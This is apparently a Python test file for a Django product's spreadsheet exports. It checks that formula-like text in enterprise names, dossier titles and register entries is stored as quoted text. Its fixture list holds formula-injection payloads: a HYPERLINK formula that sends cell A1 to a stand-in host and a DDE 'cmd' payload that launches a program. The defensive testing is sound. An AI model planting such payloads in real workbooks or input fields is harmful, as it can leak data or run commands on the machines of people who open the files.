"""Text that a spreadsheet would read as a formula is written as text, in every workbook the product
writes (the registry's export and import error report, the dossier list's export, the register)."""

import datetime as dt
import io
from types import SimpleNamespace

import pytest
from django.test import RequestFactory
from openpyxl import Workbook, load_workbook

from nangsuat.core.roles import Role
from nangsuat.core.spreadsheets import append_row
from nangsuat.documents.export import register_workbook
from nangsuat.dossiers.states import State
from nangsuat.dossiers.views.lists import dossier_export
from nangsuat.registry.importer import ImportResult, RowError
from nangsuat.registry.spreadsheets import error_report_workbook, export_enterprises
from tests.core.factories import UserFactory
from tests.core.workbooks import open_export
from tests.dossiers.factories import DossierFactory
from tests.registry.factories import EnterpriseFactory

FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]
PLAIN = ["Công ty TNHH Cửu Long", "0292 3812 345", "a=b"]


def _cells(data: bytes, column: int) -> list:
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    return [row[column] for row in sheet.iter_rows()]


def _assert_text(cells, values):
    by_value = {cell.value: cell for cell in cells}
    for value in values:
        cell = by_value[value]
        assert cell.data_type == "s" and cell.quotePrefix, value


@pytest.mark.parametrize("write_only", [True, False])
def test_append_row_writes_formula_like_text_as_text(write_only):
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("x") if write_only else book.active
    for value in FORMULAS + PLAIN:
        append_row(sheet, [value, 12, dt.date(2026, 1, 2), None])
    out = io.BytesIO()
    book.save(out)
    cells = _cells(out.getvalue(), 0)
    _assert_text(cells, FORMULAS)
    assert not any(cell.quotePrefix for cell in cells if cell.value in PLAIN)
    row = next(load_workbook(io.BytesIO(out.getvalue())).worksheets[0].iter_rows(values_only=True))
    assert row[1:3] == (12, dt.datetime(2026, 1, 2))


@pytest.mark.django_db
def test_registry_export_writes_names_as_text(can_tho):
    for name in FORMULAS:
        EnterpriseFactory(agency=can_tho, name=name, representative=name)
    from nangsuat.registry.models import Enterprise

    handle = export_enterprises(Enterprise.objects.filter(agency=can_tho))
    data = handle.read()
    _assert_text(_cells(data, 1), FORMULAS)
    _assert_text(_cells(data, 9), FORMULAS)


def test_import_error_report_writes_values_as_text():
    result = ImportResult(errors=[RowError(row=2, column="Tên", message="Sai", value=v) for v in FORMULAS])
    out = io.BytesIO()
    error_report_workbook(result).save(out)
    _assert_text(_cells(out.getvalue(), 2), FORMULAS)
    sheet = open_export(out.getvalue())
    assert sheet["A1"].value == "LỖI NHẬP DANH SÁCH DOANH NGHIỆP" and sheet.freeze_panes == "A4"
    assert (
        sheet["A3"].value == "Dòng"
        and sheet["A3"].font.bold
        and sheet["A2"].value.startswith("Đã đọc 0 dòng")
    )


@pytest.mark.django_db
def test_dossier_export_writes_names_and_titles_as_text(can_tho):
    for value in FORMULAS:
        DossierFactory(
            call__agency=can_tho,
            state=State.SUBMITTED,
            title=value,
            enterprise=EnterpriseFactory(agency=can_tho, name=value),
        )
    request = RequestFactory().get("/dossiers/export.xlsx")
    request.user = UserFactory(role=Role.OFFICER, agency=can_tho)
    request.htmx = False
    data = dossier_export(request).content
    _assert_text(_cells(data, 1), FORMULAS)
    _assert_text(_cells(data, 6), FORMULAS)


def test_register_writes_titles_and_numbers_as_text():
    documents = [
        SimpleNamespace(
            number=value,
            issued_on=dt.date(2026, 1, 2),
            get_kind_display=lambda: "Phiếu tiếp nhận",
            title=value,
            dossier=SimpleNamespace(tracking_code="CT-2026-000001", enterprise=SimpleNamespace(name=value)),
            signer_name=value,
            get_pdf_status_display=lambda: "Đã có",
        )
        for value in FORMULAS
    ]
    data = register_workbook(documents)
    for column in (1, 4, 6, 7):
        _assert_text(_cells(data, column), FORMULAS)
